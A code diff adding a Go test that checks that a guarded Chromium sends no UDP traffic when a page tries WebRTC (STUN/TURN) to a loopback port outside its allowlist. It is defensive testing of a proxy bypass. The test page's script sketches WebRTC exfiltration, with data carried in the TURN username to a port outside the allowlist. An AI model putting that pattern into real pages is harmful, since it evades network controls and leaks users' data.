@@ -355,6 +355,72 @@ func TestChromium(t *testing.T) {
 	require.NotContains(t, body, "secret")
 }
 
+// TestChromiumSendsNoUDP: WebRTC is the one path a page has around the
+// guard proxy (STUN and TURN go over UDP, which no HTTP proxy carries).
+// Every Chromium the product launches refuses UDP that does not go through
+// the proxy, so a page's RTCPeerConnection aimed at a loopback UDP port
+// outside the allowlist — with page-chosen data in the TURN username —
+// sends that port nothing.
+func TestChromiumSendsNoUDP(t *testing.T) {
+	udp, err := net.ListenPacket("udp4", "127.0.0.3:0")
+	require.NoError(t, err)
+	defer udp.Close()
+	var packets atomic.Int64
+	go func() {
+		buf := make([]byte, 2048)
+		for {
+			if _, _, err := udp.ReadFrom(buf); err != nil {
+				return
+			}
+			packets.Add(1)
+		}
+	}()
+	udpAddr := udp.LocalAddr().String()
+
+	ln, err := net.Listen("tcp", "127.0.0.2:0")
+	require.NoError(t, err)
+	site := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprintf(w, `<html><body><h1>call</h1><script>
+window.gathered = new Promise((resolve) => {
+  const pc = new RTCPeerConnection({iceServers: [{urls: "stun:%[1]s"}, {urls: "turn:%[1]s?transport=udp", username: "exfiltrated-data", credential: "x"}]});
+  const kinds = [];
+  pc.onicecandidate = (e) => { if (e.candidate) kinds.push(e.candidate.type); else resolve(kinds.join(",") || "none"); };
+  pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === "complete") resolve(kinds.join(",") || "none"); };
+  pc.createDataChannel("x");
+  pc.createOffer().then((o) => pc.setLocalDescription(o)).catch((e) => resolve("error: " + e));
+});
+</script></body></html>`, udpAddr)
+	})}
+	go site.Serve(ln)
+	defer site.Close()
+
+	g, err := egress.New(egress.Config{Policy: egress.Policy{
+		Ports: []int{ln.Addr().(*net.TCPAddr).Port},
+		Allow: []netip.Prefix{netip.MustParsePrefix("127.0.0.2/32")},
+	}})
+	require.NoError(t, err)
+	p, err := g.ListenProxy("127.0.0.1:0")
+	require.NoError(t, err)
+	defer p.Close()
+
+	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+	defer cancel()
+	b, err := browser.Launch(ctx, browser.Options{ExtraFlags: p.ChromiumFlags()})
+	require.NoError(t, err)
+	defer b.Close()
+	page, err := b.Page(ctx)
+	require.NoError(t, err)
+	page = page.Context(ctx)
+	require.NoError(t, page.Navigate("http://"+ln.Addr().String()+"/"))
+	require.NoError(t, page.WaitLoad())
+	// ICE gathering ends when every server was tried (or refused): after
+	// that the page sends nothing more on its own.
+	res, err := page.Eval(`() => window.gathered`)
+	require.NoError(t, err)
+	t.Logf("candidates gathered: %s", res.Value.Str())
+	require.Zero(t, packets.Load(), "a page's WebRTC reached a UDP port outside the guard")
+}
+
 // TestUpstreamFromData: a proxy from a tenant's pool is data, so its own
 // address goes through the guard too: a loopback proxy is refused unless
 // the pool's allow list admits it, a proxy name resolving into private
